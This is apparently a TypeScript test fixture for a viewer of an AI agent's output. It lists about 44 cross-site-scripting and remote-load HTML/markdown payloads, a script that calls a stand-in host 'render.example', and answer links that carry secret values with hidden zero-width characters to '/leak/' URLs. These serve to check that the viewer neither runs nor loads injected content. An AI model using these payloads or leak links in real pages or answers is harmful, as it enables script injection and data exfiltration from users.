/**
 * Rendering payloads: script that would run, and markup that would load something remote, written
 * where model or page text is shown — the answer, thinking, queries, goals, search titles and
 * snippets, page titles and text, and a URL the model wrote. `{E}` runs code (it records its id on
 * the top window and calls home), `{R}` is a remote address with the payload's id in it.
 */
export const RENDER_HOST = 'render.example';

export const PAYLOADS: readonly string[] = [
  '<script>{E}</script>',
  '<img src=x onerror="{E}">',
  '<svg onload="{E}"></svg>',
  '<iframe srcdoc="<script>{E}</script>"></iframe>',
  '<iframe src="javascript:{E}"></iframe>',
  '<details open ontoggle="{E}"><summary>x</summary></details>',
  '<body onload="{E}">',
  '<input autofocus onfocus="{E}">',
  '<object data="javascript:{E}"></object>',
  '<embed src="javascript:{E}">',
  '<noscript><p title="</noscript><img src=x onerror={E}>"></p></noscript>',
  '<svg><style><img src=x onerror="{E}"></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="{E}"></style></mglyph></table></mtext></math>',
  '<marquee onstart="{E}">x</marquee>',
  '<video><source onerror="{E}"></video>',
  '<audio src=x onerror="{E}"></audio>',
  '<style onload="{E}"></style>',
  '<img src="{R}">',
  '![x]({R})',
  '![a][ref{N}]\n\n[ref{N}]: {R}',
  '<img src="//render.example/load/{ID}">',
  '<img srcset="{R} 1x">',
  '<picture><source srcset="{R}"><img alt="p"></picture>',
  '<input type="image" src="{R}">',
  '<video src="{R}"></video>',
  '<video poster="{R}"></video>',
  '<video autoplay muted><source src="{R}" type="video/mp4"></video>',
  '<audio src="{R}" autoplay></audio>',
  '<audio><source src="{R}"></audio>',
  '<video><track default kind="captions" src="{R}"></video>',
  '<link rel="stylesheet" href="{R}">',
  '<link rel="prefetch" href="{R}">',
  '<style>@import url({R});</style>',
  '<div style="background-image:url({R})">x</div>',
  '<iframe src="{R}"></iframe>',
  '<object data="{R}"></object>',
  '<embed src="{R}">',
  '<svg><image href="{R}" width="5" height="5"/></svg>',
  '<svg><use href="{R}#a"/></svg>',
  '<meta http-equiv="refresh" content="0;url={R}">',
  '<img loading="lazy" src="{R}">',
  '<table background="{R}"><tr><td>x</td></tr></table>',
  '<body background="{R}">',
  '<image src="{R}">',
];

export const SURFACES = [
  'answer',
  'think',
  'query',
  'goal',
  'search-title',
  'search-snippet',
  'page-title',
  'page-text',
  'visit-url',
] as const;
export type Surface = (typeof SURFACES)[number];

export interface Placement {
  id: string;
  payload: number;
  surface: Surface;
  html: string;
}

const execJs = (id: string) =>
  `(top.__x=top.__x||[]).push('${id}');fetch('http://${RENDER_HOST}/exec/${id}',{mode:'no-cors'})`;

export function fill(template: string, id: string, n: number): string {
  return template
    .replace(/\{E\}/g, execJs(id))
    .replace(/\{R\}/g, `http://${RENDER_HOST}/load/${id}`)
    .replace(/\{ID\}/g, id)
    .replace(/\{N\}/g, String(n));
}

/** Every payload goes into the answer and into one other surface, in turn. */
export function placements(): Placement[] {
  const out: Placement[] = [];
  PAYLOADS.forEach((template, i) => {
    const other = SURFACES[1 + (i % (SURFACES.length - 1))] ?? 'think';
    for (const surface of ['answer', other] as const) {
      const id = `p${i}-${surface}`;
      out.push({ id, payload: i, surface, html: fill(template, id, i) });
    }
  });
  return out;
}

/** Which placement a logged request or a recorded id belongs to. */
export function placementOf(text: string): string | undefined {
  return /\/(?:load|exec)\/(p\d+-[a-z-]+)/.exec(text)?.[1];
}

/**
 * Answer links (issue 27): URLs the model writes into its answer that carry a secret, raw, with a
 * private-use or zero-width character inside, and as a markdown link. None is a page the run read,
 * so no viewer may make an href of it, and no href anywhere may hold such a character.
 */
export const ANSWER_LINKS: readonly string[] = [
  `See http://${RENDER_HOST}/leak/raw?k=AL1K7QZ2 for the details.`,
  `See http://${RENDER_HOST}/leak/pua?k=AL2K\uE000QZ2 for the details.`,
  `See http://${RENDER_HOST}/leak/zw?k=AL3K\u200BQZ2 for the details.`,
  `See [the full report](http://${RENDER_HOST}/leak/md?k=AL4KQZ2) for the details.`,
  `See [the\uE001report](http://${RENDER_HOST}/leak/md-pua?k=AL5K\u2060QZ2) for the details.`,
];

/** An href that carries one of the answer's secret links, or a private-use or invisible character. */
export function leakyHref(href: string): boolean {
  let decoded = href;
  try {
    decoded = decodeURIComponent(href);
  } catch {
    // A malformed escape: judged as written.
  }
  return /\/leak\//.test(decoded) || /[\uE000-\uF8FF\u200B-\u200F\u2060-\u2064\uFEFF]/u.test(decoded);
}
